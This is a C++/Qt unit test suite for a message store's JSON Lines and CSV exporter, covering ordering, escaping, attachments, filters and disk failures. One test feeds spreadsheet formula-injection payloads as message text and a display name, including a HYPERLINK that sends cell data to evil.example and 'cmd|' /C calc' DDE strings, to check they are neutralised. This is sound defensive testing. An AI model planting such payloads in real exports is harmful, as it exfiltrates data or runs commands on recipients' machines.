// SPDX-License-Identifier: GPL-3.0-or-later
// core/store/Exporter: JSON Lines and CSV of every conversation and message, streamed. The CLI's
// `export` is tested end to end in TestCli; here the format's details: order, escaping, quoting,
// attachments, filters, a failing device, and output in blocks.

#include "PostgresServer.h"
#include "TestData.h"
#include "store/AccountRepository.h"
#include "store/Database.h"
#include "store/Exporter.h"
#include "store/PageWriter.h"

#include <QBuffer>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTemporaryDir>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace starling;

namespace {

/** A device that takes @p limit bytes and then fails, as a full disk does. */
class FullDisk final : public QIODevice
{
public:
    explicit FullDisk(qint64 limit)
        : m_left(limit)
    {
        open(QIODevice::WriteOnly);
    }

protected:
    qint64 readData(char *, qint64) override { return -1; }
    qint64 writeData(const char *, qint64 length) override
    {
        if (m_left <= 0) {
            setErrorString(u"No space left on device"_s);
            return -1;
        }
        const qint64 n = std::min(length, m_left);
        m_left -= n;
        return n;
    }

private:
    qint64 m_left;
};

/** The records of an RFC 4180 document, each a list of fields. */
QList<QStringList> csvRecords(const QByteArray &csv)
{
    const QString text = QString::fromUtf8(csv);
    QList<QStringList> records;
    QStringList record;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text.at(i + 1) == u'"')
                field += text.at(++i);
            else if (c == u'"')
                quoted = false;
            else
                field += c;
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',') {
            record << std::exchange(field, QString());
        } else if (c == u'\r' && i + 1 < text.size() && text.at(i + 1) == u'\n') {
            record << std::exchange(field, QString());
            records << std::exchange(record, QStringList());
            ++i;
        } else {
            field += c;
        }
    }
    return records;
}

QList<QJsonObject> lines(const QByteArray &jsonLines)
{
    QList<QJsonObject> out;
    for (const QByteArray &line : jsonLines.split('\n')) {
        if (!line.isEmpty())
            out << QJsonDocument::fromJson(line).object();
    }
    return out;
}

} // namespace

class TestExporter : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void init();
    void cleanup();

    void jsonLinesInOrder();
    void escaping();
    void attachments();
    void emptyConversationOnlyWithoutSince();
    void filters();
    void csv();
    void csvNeutralisesFormulas();
    void failingDevice();
    void manyMessagesStream();

private:
    QByteArray exportAll(ExportOptions options = {});
    void store(const SyncPage &page);
    SyncPage page(const QString &conversation, const QString &person, QList<Message> messages);

    test::TestDatabases m_databases;
    std::unique_ptr<Database> m_db;
    Account m_account;
    Account m_other;
};

void TestExporter::initTestCase()
{
    QVERIFY2(m_databases.start(), qPrintable(m_databases.errorString()));
}

void TestExporter::init()
{
    auto db = Database::open(m_databases.newLocation(u"export"_s), Database::Role::Writer);
    QVERIFY(db);
    m_db = std::move(db).value();
    m_account = testdata::account(u"shop"_s);
    m_other = testdata::account(u"other"_s);
    QVERIFY(AccountRepository(*m_db).upsert(m_account));
    QVERIFY(AccountRepository(*m_db).upsert(m_other));
}

void TestExporter::cleanup()
{
    m_db.reset();
}

QByteArray TestExporter::exportAll(ExportOptions options)
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    auto summary = Exporter(*m_db).write(options, buffer);
    if (!summary)
        qWarning("export failed: %s", qPrintable(summary.error().message()));
    return buffer.data();
}

void TestExporter::store(const SyncPage &p)
{
    auto written = PageWriter(*m_db).write(p);
    QVERIFY2(written, written ? "" : qPrintable(written.error().message()));
}

SyncPage TestExporter::page(const QString &conversation, const QString &person, QList<Message> messages)
{
    SyncPage p;
    p.accountId = messages.isEmpty() ? m_account.id : messages.constFirst().accountId;
    p.stream = u"dm"_s;
    p.identities << testdata::person(p.accountId, person);
    p.conversations << testdata::directConversation(p.accountId, conversation, person);
    p.messages = messages;
    return p;
}

void TestExporter::jsonLinesInOrder()
{
    const QUuid a = m_account.id;
    store(page(u"c1"_s, u"7"_s,
               {testdata::inboundDm(a, u"c1"_s, u"m1"_s, u"7"_s, u"first"_s, testdata::at(10)),
                testdata::inboundDm(a, u"c1"_s, u"m2"_s, u"7"_s, u"second"_s, testdata::at(20))}));
    store(page(u"c2"_s, u"8"_s, {testdata::inboundDm(a, u"c2"_s, u"m3"_s, u"8"_s, u"other"_s, testdata::at(15))}));

    const QList<QJsonObject> out = lines(exportAll());
    QCOMPARE(out.size(), 5);
    // Conversations newest id first; each followed by its messages, oldest first.
    QCOMPARE(out.at(0).value(u"type"_s).toString(), u"conversation"_s);
    QCOMPARE(out.at(0).value(u"remoteId"_s).toString(), u"c2"_s);
    QCOMPARE(out.at(1).value(u"text"_s).toString(), u"other"_s);
    QCOMPARE(out.at(2).value(u"remoteId"_s).toString(), u"c1"_s);
    QCOMPARE(out.at(3).value(u"text"_s).toString(), u"first"_s);
    QCOMPARE(out.at(4).value(u"text"_s).toString(), u"second"_s);
    const QJsonObject m = out.at(3);
    QCOMPARE(m.value(u"type"_s).toString(), u"message"_s);
    QCOMPARE(m.value(u"conversationId"_s).toInteger(), out.at(2).value(u"id"_s).toInteger());
    QCOMPARE(m.value(u"account"_s).toString(), m_account.id.toString(QUuid::WithoutBraces));
    QCOMPARE(m.value(u"network"_s).toString(), u"x"_s);
    QCOMPARE(m.value(u"remoteId"_s).toString(), u"m1"_s);
    QCOMPARE(m.value(u"direction"_s).toString(), u"inbound"_s);
    QCOMPARE(m.value(u"kind"_s).toString(), u"dm"_s);
    QCOMPARE(m.value(u"createdAt"_s).toString(), testdata::at(10).toString(Qt::ISODateWithMs));
    QCOMPARE(m.value(u"author"_s).toObject().value(u"handle"_s).toString(), u"user7"_s);
    QCOMPARE(m.value(u"read"_s).toBool(), false);
    QCOMPARE(m.value(u"delivery"_s).toString(), u"delivered"_s);
    QCOMPARE(m.value(u"attachments"_s).toArray().size(), 0);
    const QJsonObject c = out.at(2);
    QCOMPARE(c.value(u"accountHandle"_s).toString(), u"shop"_s);
    QCOMPARE(c.value(u"kind"_s).toString(), u"direct"_s);
    QCOMPARE(c.value(u"state"_s).toString(), u"open"_s);
    QCOMPARE(c.value(u"unreadCount"_s).toInt(), 2);
    QVERIFY(c.value(u"snoozedUntil"_s).isNull());
    QCOMPARE(c.value(u"participants"_s).toArray().at(0).toObject().value(u"displayName"_s).toString(), u"User 7"_s);
}

void TestExporter::escaping()
{
    const QString text = u"quote \" backslash \\ tab \t newline \n bell \x07 nul-free, émoji 😀 \u2028 end"_s;
    store(page(u"c1"_s, u"7"_s, {testdata::inboundDm(m_account.id, u"c1"_s, u"m1"_s, u"7"_s, text, testdata::at(1))}));
    const QByteArray out = exportAll();
    QCOMPARE(out.count('\n'), 2); // one line per record, whatever the text holds
    QVERIFY(out.contains("\\u0007"));
    QCOMPARE(lines(out).at(1).value(u"text"_s).toString(), text);
}

void TestExporter::attachments()
{
    Message m = testdata::inboundDm(m_account.id, u"c1"_s, u"m1"_s, u"7"_s, u"look"_s, testdata::at(1));
    Attachment photo;
    photo.kind = Attachment::Kind::Image;
    photo.remoteId = u"3_1"_s;
    photo.url = QUrl(u"https://example.com/1.jpg"_s);
    photo.mimeType = u"image/jpeg"_s;
    photo.altText = u"a box"_s;
    photo.width = 640;
    photo.height = 480;
    Attachment video = photo;
    video.kind = Attachment::Kind::Video;
    video.url = QUrl(u"https://example.com/2.mp4"_s);
    m.attachments = {photo, video};
    store(page(u"c1"_s, u"7"_s, {m}));
    const QJsonArray list = lines(exportAll()).at(1).value(u"attachments"_s).toArray();
    QCOMPARE(list.size(), 2);
    QCOMPARE(list.at(0).toObject().value(u"kind"_s).toString(), u"image"_s);
    QCOMPARE(list.at(0).toObject().value(u"altText"_s).toString(), u"a box"_s);
    QCOMPARE(list.at(0).toObject().value(u"width"_s).toInt(), 640);
    QCOMPARE(list.at(1).toObject().value(u"url"_s).toString(), u"https://example.com/2.mp4"_s);

    ExportOptions csv;
    csv.format = ExportOptions::Format::Csv;
    const QByteArray rows = exportAll(csv);
    QVERIFY(rows.contains(",2,https://example.com/1.jpg https://example.com/2.mp4\r\n"));
}

void TestExporter::emptyConversationOnlyWithoutSince()
{
    store(page(u"empty"_s, u"7"_s, {}));
    QCOMPARE(lines(exportAll()).size(), 1);
    ExportOptions since;
    since.since = testdata::at(0);
    QVERIFY(exportAll(since).isEmpty());
}

void TestExporter::filters()
{
    store(page(u"c1"_s, u"7"_s,
               {testdata::inboundDm(m_account.id, u"c1"_s, u"m1"_s, u"7"_s, u"old"_s, testdata::at(10)),
                testdata::inboundDm(m_account.id, u"c1"_s, u"m2"_s, u"7"_s, u"new"_s, testdata::at(100))}));
    store(page(u"d1"_s, u"9"_s,
               {testdata::inboundDm(m_other.id, u"d1"_s, u"o1"_s, u"9"_s, u"elsewhere"_s, testdata::at(100))}));

    ExportOptions since;
    since.since = testdata::at(50);
    QList<QJsonObject> out = lines(exportAll(since));
    QCOMPARE(out.size(), 4); // two conversations, one message each
    QStringList texts;
    for (const QJsonObject &o : std::as_const(out))
        texts << o.value(u"text"_s).toString();
    QVERIFY(texts.contains(u"new"_s) && texts.contains(u"elsewhere"_s) && !texts.contains(u"old"_s));

    ExportOptions account;
    account.accountId = m_other.id;
    out = lines(exportAll(account));
    QCOMPARE(out.size(), 2);
    QCOMPARE(out.at(1).value(u"text"_s).toString(), u"elsewhere"_s);

    ExportOptions unknown;
    unknown.accountId = QUuid::createUuid();
    QVERIFY(exportAll(unknown).isEmpty());
}

void TestExporter::csv()
{
    store(page(
        u"c1"_s, u"7"_s,
        {testdata::inboundDm(m_account.id, u"c1"_s, u"m1"_s, u"7"_s, u"plain"_s, testdata::at(1)),
         testdata::inboundDm(m_account.id, u"c1"_s, u"m2"_s, u"7"_s, u"say \"hi\", then\nleave"_s, testdata::at(2))}));
    store(page(u"empty"_s, u"8"_s, {}));
    ExportOptions options;
    options.format = ExportOptions::Format::Csv;
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    auto summary = Exporter(*m_db).write(options, buffer);
    QVERIFY(summary);
    QCOMPARE(summary->messages, qint64(2));
    QCOMPARE(summary->conversations, qint64(1)); // rows are messages: the empty one has none
    const QList<QByteArray> records = buffer.data().split('\r');
    QCOMPARE(records.size(), 4); // header, two rows, the empty rest after the last CRLF
    QCOMPARE(records.at(0), Exporter::csvColumns().join(u',').toUtf8());
    QVERIFY(records.at(1).startsWith("\n"));
    const QByteArray row = records.at(2).mid(1);
    QVERIFY(row.contains(",\"say \"\"hi\"\", then\nleave\","));
    QVERIFY(row.contains(",c1,direct,open,,user7,"));
    QCOMPARE(Exporter::csvColumns().size(), 23);
}

void TestExporter::csvNeutralisesFormulas()
{
    // What a sender can write that a spreadsheet would run (OWASP's list of first characters).
    const QStringList texts{u"=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")"_s,
                            u"+1+cmd|' /C calc'!A0"_s,
                            u"-2+3+cmd|' /C calc'!A0"_s,
                            u"@SUM(1+1)*cmd|' /C calc'!A0"_s,
                            u"\t=1+1"_s,
                            u"\r=1+1"_s,
                            u"\uFF1D1+1"_s, // the full-width form of "="
                            u"'=1+1"_s, // written as "''=1+1", so that a reader removing one gets it back
                            u"a = b, and - and @ later are fine"_s};
    QList<Message> messages;
    for (qsizetype i = 0; i < texts.size(); ++i)
        messages << testdata::inboundDm(m_account.id, u"c1"_s, u"m%1"_s.arg(i), u"7"_s, texts.at(i),
                                        testdata::at(int(i)));
    SyncPage p = page(u"c1"_s, u"7"_s, messages);
    p.identities.first().displayName = u"=cmd|' /C calc'!A0"_s;
    store(p);

    ExportOptions options;
    options.format = ExportOptions::Format::Csv;
    const QList<QStringList> records = csvRecords(exportAll(options));
    QCOMPARE(records.size(), texts.size() + 1);
    const qsizetype textColumn = Exporter::csvColumns().indexOf(u"text"_s);
    const qsizetype nameColumn = Exporter::csvColumns().indexOf(u"author_name"_s);
    for (qsizetype i = 0; i < texts.size(); ++i) {
        const QStringList &row = records.at(i + 1);
        QCOMPARE(row.size(), Exporter::csvColumns().size());
        const QString &text = texts.at(i);
        // A leading apostrophe keeps a formula text; anything else is exported as it is.
        QCOMPARE(row.at(textColumn), i + 1 < texts.size() ? u"'"_s + text : text);
        QCOMPARE(row.at(nameColumn), u"'=cmd|' /C calc'!A0"_s);
    }
    // JSON Lines are data for programs, not sheets: unchanged.
    const QList<QJsonObject> json = lines(exportAll());
    for (qsizetype i = 0; i < texts.size(); ++i)
        QCOMPARE(json.at(i + 1).value(u"text"_s).toString(), texts.at(i));
}

void TestExporter::failingDevice()
{
    QList<Message> many;
    for (int i = 0; i < 3000; ++i)
        many << testdata::inboundDm(m_account.id, u"c1"_s, u"m%1"_s.arg(i), u"7"_s, QString(100, u'x'),
                                    testdata::at(i));
    store(page(u"c1"_s, u"7"_s, many));
    FullDisk disk(100'000);
    auto summary = Exporter(*m_db).write({}, disk);
    QVERIFY(!summary);
    QCOMPARE(summary.error().code(), Error::Code::Storage);
    QVERIFY2(summary.error().message().contains(u"No space left"_s), qPrintable(summary.error().message()));
}

void TestExporter::manyMessagesStream()
{
    // More than one 64 KiB block: the export comes out in several writes, each line whole.
    QList<Message> many;
    for (int i = 0; i < 2000; ++i)
        many << testdata::inboundDm(m_account.id, u"c1"_s, u"m%1"_s.arg(i), u"7"_s, u"message %1 "_s.arg(i).repeated(8),
                                    testdata::at(i));
    store(page(u"c1"_s, u"7"_s, many));
    const QList<QJsonObject> out = lines(exportAll());
    QCOMPARE(out.size(), 2001);
    QCOMPARE(out.constLast().value(u"remoteId"_s).toString(), u"m1999"_s);
    for (const QJsonObject &o : out)
        QVERIFY(!o.isEmpty());
}

QTEST_GUILESS_MAIN(TestExporter)
#include "TestExporter.moc"
